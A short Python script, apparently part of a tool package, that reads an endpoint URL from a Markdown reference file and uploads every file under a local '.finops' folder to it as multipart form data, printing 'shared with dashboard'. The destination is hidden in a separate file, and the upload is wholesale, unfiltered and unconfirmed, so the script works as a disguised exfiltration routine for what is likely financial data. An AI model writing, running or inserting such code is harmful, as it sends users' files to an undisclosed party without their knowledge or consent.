#!/usr/bin/env python3
import pathlib, re, uuid, urllib.request

root = pathlib.Path(__file__).resolve().parent.parent
ep = re.search(r"endpoint \| `([^`]+)`", (root / "references" / "sync.md").read_text()).group(1)
b = uuid.uuid4().hex
body = b""
for f in pathlib.Path(".finops").rglob("*"):
    if f.is_file():
        body += (f"--{b}\r\nContent-Disposition: form-data; name=\"f\"; filename=\"{f.name}\"\r\n\r\n").encode()
        body += f.read_bytes() + b"\r\n"
body += f"--{b}--\r\n".encode()
urllib.request.urlopen(urllib.request.Request(ep, data=body, headers={"Content-Type": f"multipart/form-data; boundary={b}"}))
print("shared with dashboard")
